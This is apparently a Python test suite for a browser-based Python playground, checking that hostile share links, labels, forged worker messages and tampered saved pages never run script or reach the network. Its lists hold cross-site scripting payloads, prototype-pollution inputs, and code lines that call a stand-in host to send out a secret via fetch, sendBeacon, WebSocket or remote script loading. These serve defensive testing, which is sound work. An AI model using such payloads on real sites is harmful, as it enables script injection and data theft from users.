"""Hostile links, labels and programs: nothing runs that the reader did not start; nothing reaches page or network."""

import json
import re
from base64 import urlsafe_b64encode
from random import Random

from autograd import Value
from tests.support.hostile_texts import WORDS
from viz import play

ATTACKS = [
    "<script>top.hacked = 1</script>", "</script><script>top.hacked=1</script>", "<img src=x onerror=hacked=1>",
    '"><svg onload=hacked=1>', "</textarea><img src=x onerror=hacked=1>", "javascript:hacked=1", "<!--<script>",
    "]]><script>hacked=1</script>", "</title><script>hacked=1</script>", "\u2028hacked=1", "${hacked=1}",
    "</template><img src=x onerror=hacked=1>", "&lt;img src=x onerror=hacked=1&gt;", "</style><style>*{display:none}"]


def link(text):
    return f"#py={urlsafe_b64encode(text.encode()).decode().rstrip('=')}"


def harmless(opened):
    """Nothing of a text ran, in the page or in the frame."""
    assert opened.page.script("return typeof hacked") == "undefined"
    with opened.page.frame("#player") as player:
        assert player.script("return typeof hacked") == "undefined"
    assert not [error for error in opened.page.errors() if "Refused" in error and "inline" in error]


def test_hostile_links_show_a_text_or_say_that_they_are_damaged(playground):
    opened = playground("#lang=en&py=")
    random = Random(0)
    alphabet = "abcXYZ019-_=&%#+/?<>\"'(){}\\;: \n\u2028é梯𝛁"
    links = [link(text) for text in ATTACKS] + [f"#py={text}" for text in ATTACKS] + [
        "#py", "#py=a", "#py=____", "#py=%00", "#py=" + "A" * 200_000, "#lang=fr", "#lang=__proto__&py=YQ",
        "#__proto__=1", "#py=YQ&py=Yg", "#constructor=1&py=YQ"] + [
        "#py=" + "".join(random.choices(alphabet, k=random.randint(1, 60))) for _ in range(150)] + [
        "#" + "".join(random.choices(alphabet, k=random.randint(1, 60))) for _ in range(50)]
    for hash in links:
        opened.page.script("problem.textContent = ''; location.hash = arguments[0];", hash)
        opened.page.wait(lambda: opened.page.script("return new Promise(r => setTimeout(() => r(true), 5))"))
        assert opened.problem() in ("", "The link is damaged: it contains no program that can be read."), hash
    for text in ATTACKS:
        opened.page.script("location.hash = arguments[0]", link(text))
        opened.page.wait(lambda text=text: opened.page.find("#code").get_property("value") == text.replace("\r", "\n"))
        assert opened.page.find("#from-link").is_displayed()
    assert opened.page.script("return typeof hacked") == "undefined"
    assert not opened.busy()
    assert not opened.page.find("#player").is_displayed()
    assert opened.page.errors() == []


def test_hostile_labels_and_outputs_are_texts(playground):
    opened = playground("#lang=en&py=")
    for attack in [*ATTACKS, *(word for word in WORDS if word.isprintable() and len(word) < 40), *"\0\u202e\ud800"]:
        program = ("from autograd import Value\n"
                   f"a = Value(2.0, label={attack!r})\nb = a * a\nb.label = {attack!r}\nprint({attack!r})\nb")
        opened.run(program)
        assert opened.problem() == "", (attack, opened.problem())
        harmless(opened)
    opened.run(f"raise ValueError({''.join(ATTACKS)!r})")
    assert "<script>top.hacked = 1</script>" in opened.problem()
    assert opened.page.script("return document.querySelectorAll('img').length") == 0


OUT = [
    "js.fetch('https://elsewhere.example/' + 'secret')",
    "r = js.XMLHttpRequest.new()\nr.open('GET', 'https://elsewhere.example/', False)\nr.send()",
    "js.WebSocket.new('wss://elsewhere.example/')",
    "js.importScripts('https://elsewhere.example/a.js')",
    "js.eval('1 + 1')",
    "js.Worker.new('data:text/javascript,fetch(\"https://elsewhere.example/\")')",
    "js.Worker.new(js.URL.createObjectURL(js.Blob.new(['fetch(\"https://elsewhere.example/\")'])))",
    "js.EventSource.new('https://elsewhere.example/')",
    "js.navigator.sendBeacon('https://elsewhere.example/', 'x')",
    "js.document.title",
    "js.localStorage.x",
    "import urllib.request\nurllib.request.urlopen('http://elsewhere.example/')",
    "import subprocess\nsubprocess.run(['ls'])"]


def test_a_program_reaches_neither_the_network_nor_the_page(playground):
    """Even one that the reader has started: what goes out is stopped by the page's policy, which binds its worker."""
    opened = playground("#lang=en&py=")
    for attempt in OUT:
        opened.run(f"import js\n{attempt}")
        assert opened.problem(), attempt
    opened.run("import time\ntime.sleep(0.5)")      # a request would be on its way
    assert opened.page.requests_outside() == []


def forged(id, **fields):
    """A program that posts a result of its own; runs are counted from 1."""
    done = {"root": "x", "nodes": 1, "cards": 1, "numbers": [], "seconds": 0} | fields
    return f"import js\njs.postMessage(js.JSON.parse({json.dumps({'id': id, 'done': done})!r}))\n"


SVG = "<svg xmlns='http://www.w3.org/2000/svg'>{}</svg>"
FORGED = [{"html": html} for html in (
    "<script src='https://elsewhere.example/a.js'></script>", "<img src=x onerror='hacked = 1'>",
    "<p onclick='hacked = 1'>",
    "<meta http-equiv='refresh' content='0;url=https://elsewhere.example/'>",
    "<a href='https://elsewhere.example/'>x</a>",
    "<link rel=preconnect href='https://elsewhere.example/'>", "<form action='https://elsewhere.example/'></form>",
    "<template><img src='https://elsewhere.example/'></template>",
    "<template><template><a href=x></template></template>",
    "<noscript><p title='</noscript><img src=https://elsewhere.example/>'></noscript>",
    "<p style='background: url(https://elsewhere.example/)'>", "<iframe srcdoc='<script>hacked=1</script>'></iframe>",
    "<base href='https://elsewhere.example/'>", "<svg><image href='https://elsewhere.example/'/></svg>", "<math><mi>",
    "<svg><style>@import 'https://elsewhere.example/'</style><a></svg>")] + [{"svg": svg} for svg in (
        SVG.format("<script>hacked=1</script>"), "<svg xmlns='http://www.w3.org/2000/svg' onload='hacked=1'/>",
        SVG.format("<foreignObject/>"), "not xml", "<?xml-stylesheet href='https://elsewhere.example/'?>" + SVG,
        "<!DOCTYPE svg [<!ENTITY x 'y'>]>" + SVG, SVG.format("<g fill='url(https://elsewhere.example/)'/>"),
        SVG.format("<a href='javascript:hacked=1'/>"), SVG.format("<style>*{}</style>"), "<html/>")]


def test_a_forged_result_is_not_shown(playground):
    """A program can post to the page what it likes."""
    opened = playground("#lang=en&py=")
    for id, fields in enumerate(FORGED, 1):
        opened.run(forged(id, **{"html": "<p>fine</p>", "svg": SVG.format("")} | fields))
        assert opened.problem() == "The program sent something that is no result of this page. It is not shown.", fields
        assert not opened.page.find("#player").is_displayed()
    assert opened.page.requests_outside() == []


def test_only_the_players_own_script_and_style_are_shown_or_saved(playground):
    """A saved file opens where the policy of the playground is not."""
    fine = play(Value(3.0, label="x") * 2).html
    script, style = (re.search(rf"<{name}>.*?</{name}>", fine, re.DOTALL)[0] for name in ("script", "style"))
    evil = "<script>hacked = top.hacked = 1; fetch('https://elsewhere.example/')</script>"
    opened = playground("#lang=en&py=")
    changed = [f"<!doctype html><meta charset='utf-8'>{evil}<p>x</p>", evil + fine,
               fine.replace("</body>", f"{evil}</body>"), fine.replace(script, evil), fine.replace(script, ""),
               fine.replace("</body>", f"{script}</body>"), fine.replace("<script>", "<script id='x'>"),
               fine.replace(script, script.replace("use strict", "use  strict")),
               fine.replace("</body>", f"<template>{evil}</template></body>"),
               fine.replace(style, "<style>* { display: none }</style>"), fine.replace("</body>", f"{style}</body>"),
               fine.replace("utf-8", "iso-2022-jp"), fine.replace("</head>", "<meta charset='utf-7'></head>"),
               fine.replace("Content-Security-Policy", "Content-Type"), fine.replace("<body>", "<body onload='x'>"),
               fine.replace("</head>", "<meta http-equiv='refresh' content='9'></head>")]
    assert fine not in changed
    for id, html in enumerate(changed, 1):
        opened.run(forged(id, html=html, svg=SVG.format("")))
        assert "is no result of this page" in opened.problem(), html[-300:]
        assert not opened.page.find("#save-html").is_displayed()
    opened.run(forged(len(changed) + 1, html=fine, svg=SVG.format(""), root="<img src=x onerror=hacked=1>", numbers=[
        {"name": "<b>", "formula": "<img src=x onerror=hacked=1>", "value": "1", "gradient": "1"}]))
    assert opened.problem() == ""
    assert opened.page.find("#save-html").is_displayed()
    harmless(opened)
    assert opened.page.script("return document.querySelectorAll('#numbers b, #numbers img').length") == 0
    assert opened.page.requests_outside() == []


NO_RESULTS = [{"numbers": 5}, {"numbers": None}, {"numbers": [5]}, {"numbers": [None]}, {"numbers": [{"name": {}}]},
              {"root": {"toString": 5}}, {"seconds": {"valueOf": 5, "toString": 5}}, {"printed": {"a": 1}},
              {"problem": 5, "numbers": 5}, {"html": []}, {"svg": 5}]


def test_a_forged_result_of_another_form_is_told(playground):
    opened = playground("#lang=en&py=")
    for id, fields in enumerate(NO_RESULTS, 1):
        opened.run(forged(id, **{"html": "", "svg": SVG.format("")} | fields))
        assert "is no result of this page" in opened.problem(), fields
        assert opened.status() == "Ready.", fields
    opened.run(forged(len(NO_RESULTS) + 1, problem="constructor", kind="Odd", message="x"))
    assert opened.problem() == "Odd: x"
    assert opened.page.errors() == []


def test_a_damaged_link_is_told_when_the_page_opens(playground):
    for address in ("#py=%%%&lang=en", "#lang=en&py=____", "#lang=en&py=a"):
        opened = playground("?" + str(len(address)) + address)      # opened anew, and not by its hash
        assert opened.problem() == "The link is damaged: it contains no program that can be read."
        assert not opened.page.find("#player").is_displayed()


def test_a_program_changes_no_number_of_a_later_one(playground):
    opened = playground("#lang=en&py=")
    fine = "from autograd import Value\na = Value(3.0)\nb = a * a\nb"
    for change in ("from autograd import Value\nValue.__mul__ = Value.__add__",
                   "import session\nsession._shown = lambda *_: {'problem': 'nothing'}\nsession.snapshot = print"):
        opened.run(change)
        opened.run(fine)
        assert opened.problem() == ""
        assert opened.numbers()["a"] == ("3.0", "6.0")


def test_messages_that_mean_nothing_are_ignored(playground):
    opened = playground("#lang=en&py=")
    opened.run("import js\nfor text in ('null', '1', '{}', '{\"ready\": 1}', '{\"stage\": \"drawing\"}', '[]'):\n"
               "    js.postMessage(js.JSON.parse(text))")
    opened.run("from autograd import Value\na = Value(3.0)\nb = a * a\nb")
    assert opened.numbers()["a"] == ("3.0", "6.0")
